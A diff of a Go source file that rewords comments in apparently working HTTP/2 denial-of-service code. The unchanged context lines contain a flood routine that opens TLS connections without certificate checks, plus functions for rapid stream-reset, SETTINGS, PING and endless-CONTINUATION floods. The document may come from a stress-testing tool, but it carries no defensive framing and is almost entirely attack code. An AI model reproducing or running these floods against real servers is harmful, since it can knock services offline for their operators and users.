@@ -19,7 +19,7 @@ const (
 	endStream, endHeaders = 1, 4
 )
 
-// heading is a compressed request heading: GET https://x/.
+// heading is a compressed request header: GET https://x/.
 var heading = []byte{0x82, 0x87, 0x84, 0x41, 1, 'x'}
 
 // http2Frame appends an HTTP/2 frame.
@@ -29,8 +29,8 @@ func http2Frame(b []byte, kind, flags byte, stream uint32, payload ...byte) []by
 	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
 }
 
-// flood sends frames on a few HTTP/2 connections as fast as possible. Next
-// appends the frames with a number, which starts at 0 on each connection.
+// flood sends frames on a few HTTP/2 connections as fast as possible. next appends the n-th group of
+// frames of a connection, counted from 0.
 func (a *Force) flood(ctx context.Context, next func(b []byte, n uint32) []byte) {
 	a.Each(ctx, 4, func(ctx context.Context, _ int) string {
 		raw, err := client.Dialer(a.from).DialContext(ctx, "tcp", a.host())
@@ -39,7 +39,7 @@ func (a *Force) flood(ctx context.Context, next func(b []byte, n uint32) []byte)
 		}
 		defer raw.Close()
 		defer context.AfterFunc(ctx, func() { raw.Close() })()
-		// Only the attacker fears a wrong certificate.
+		// The attacker need not verify the server's certificate.
 		c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
 		if err := c.HandshakeContext(ctx); err != nil {
 			client.Pause(ctx, 20*time.Millisecond)
@@ -62,7 +62,7 @@ func (a *Force) flood(ctx context.Context, next func(b []byte, n uint32) []byte)
 	})
 }
 
-// attackResets opens streams and resets them at once.
+// attackResets opens streams and resets them immediately.
 func attackResets(ctx context.Context, a *Force) {
 	a.flood(ctx, func(b []byte, n uint32) []byte {
 		stream := 2*n + 1
@@ -71,17 +71,17 @@ func attackResets(ctx context.Context, a *Force) {
 	})
 }
 
-// attackSettings sends settings, each of which has to be acknowledged.
+// attackSettings sends settings frames, each of which the server must acknowledge.
 func attackSettings(ctx context.Context, a *Force) {
 	a.flood(ctx, func(b []byte, _ uint32) []byte { return http2Frame(b, settingsFrame, 0, 0) })
 }
 
-// attackPings sends pings, each of which has to be answered.
+// attackPings sends pings, each of which the server must answer.
 func attackPings(ctx context.Context, a *Force) {
 	a.flood(ctx, func(b []byte, _ uint32) []byte { return http2Frame(b, pingFrame, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8) })
 }
 
-// attackContinuations begins a heading and never ends it.
+// attackContinuations begins a header and never ends it.
 func attackContinuations(ctx context.Context, a *Force) {
 	a.flood(ctx, func(b []byte, n uint32) []byte {
 		if n == 0 {
